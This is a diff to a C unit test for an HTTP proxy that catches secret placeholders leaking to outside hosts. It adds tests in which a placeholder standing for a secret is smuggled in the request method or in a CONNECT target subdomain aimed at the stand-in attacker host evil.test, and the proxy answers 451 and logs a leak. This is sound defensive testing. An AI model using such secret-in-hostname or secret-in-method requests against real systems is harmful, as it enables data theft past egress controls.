@@ -8,6 +8,7 @@
  */
 
 #include <arpa/inet.h>
+#include <ctype.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <netinet/in.h>
@@ -529,6 +530,38 @@ static char *through(struct proxy *p, const char *req)
 	return out;
 }
 
+/* Sends req on a fresh connection and returns the answer (malloc'd), closing the connection
+ * once its head and announced body are in: for a CONNECT that would otherwise open a tunnel. */
+static char *through_head(struct proxy *p, const char *req)
+{
+	int sv[2];
+	pthread_t t;
+	struct serve_arg a;
+	char *out = calloc(1, 65536);
+	size_t n = 0;
+
+	assert_non_null(out);
+	assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv), 0);
+	a = (struct serve_arg){p, sv[1]};
+	assert_int_equal(pthread_create(&t, NULL, serve_thread, &a), 0);
+	assert_int_equal(fs_write_all(sv[0], req, strlen(req)), 0);
+	for (;;) {
+		char *end = strstr(out, "\r\n\r\n"), *cl = strcasestr(out, "content-length:");
+		ssize_t k;
+		/* The head, and the body a Content-Length announces. */
+		if (end &&
+		    (!cl || cl > end || n >= (size_t)(end + 4 - out) + strtoul(cl + 15, NULL, 10)))
+			break;
+		k = read(sv[0], out + n, 65535 - n);
+		if (k <= 0)
+			break;
+		n += (size_t)k;
+	}
+	(void)close(sv[0]);
+	pthread_join(t, NULL);
+	return out;
+}
+
 static void test_core(void **state)
 {
 	struct hooks_state hs = {.set = test_secrets()};
@@ -536,7 +569,7 @@ static void test_core(void **state)
 	        .load = t_load, .release = t_release, .leak = t_leak, .userdata = &hs};
 	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
 	socklen_t sl = sizeof(sa);
-	char dir[] = "/tmp/test-proxy-core.XXXXXX", spec[256], req[1024];
+	char dir[] = "/tmp/test-proxy-core.XXXXXX", spec[512], req[1024], lph[128];
 	struct echo e = {0};
 	struct proxy_config cfg = {0};
 	struct proxy *p = NULL;
@@ -555,8 +588,14 @@ static void test_core(void **state)
 
 	assert_non_null(mkdtemp(dir));
 	dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
-	(void)snprintf(spec, sizeof(spec), "bound.test:80:127.0.0.1:%u,evil.test:80:127.0.0.1:%u",
-	               ntohs(sa.sin_port), ntohs(sa.sin_port));
+	/* PH.evil.test:443 leads to the echo server too: a CONNECT to it must never get there. */
+	(void)snprintf(lph, sizeof(lph), "%s", ph);
+	for (char *q = lph; *q; q++)
+		*q = (char)tolower((unsigned char)*q);
+	(void)snprintf(spec, sizeof(spec),
+	               "bound.test:80:127.0.0.1:%u,evil.test:80:127.0.0.1:%u,"
+	               "%s.evil.test:443:127.0.0.1:%u",
+	               ntohs(sa.sin_port), ntohs(sa.sin_port), lph, ntohs(sa.sin_port));
 	cfg.ca_dirfd = dfd;
 	cfg.connect_to = spec;
 	assert_int_equal(proxy_new(&cfg, &hooks, &p), 0);
@@ -605,6 +644,29 @@ static void test_core(void **state)
 	assert_int_equal(hs.leaks, 1);
 	assert_string_equal(hs.leak_host, "evil.test");
 	assert_string_equal(hs.leak_secret, "API_KEY");
+	assert_int_equal(e.requests, 1);
+
+	/* The method is scanned: a placeholder is all token characters. */
+	(void)snprintf(req, sizeof(req), "%s http://evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n",
+	               ph);
+	out = through(p, req);
+	assert_non_null(strstr(out, "HTTP/1.1 451"));
+	assert_non_null(strstr(out, "method"));
+	free(out);
+	assert_int_equal(hs.leaks, 2);
+	assert_int_equal(e.requests, 1);
+
+	/* So is the CONNECT target, before anything is resolved or connected. */
+	(void)snprintf(req, sizeof(req),
+	               "CONNECT %s.evil.test:443 HTTP/1.1\r\nHost: %s.evil.test:443\r\n\r\n", ph,
+	               ph);
+	out = through_head(p, req);
+	assert_non_null(strstr(out, "HTTP/1.1 451"));
+	assert_non_null(strstr(out, "CONNECT target"));
+	free(out);
+	assert_int_equal(hs.leaks, 3);
+	strcat(lph, ".evil.test");
+	assert_string_equal(hs.leak_host, lph);
 	assert_int_equal(e.requests, 1);
 
 	/* Smuggling: refused before anything goes upstream. */
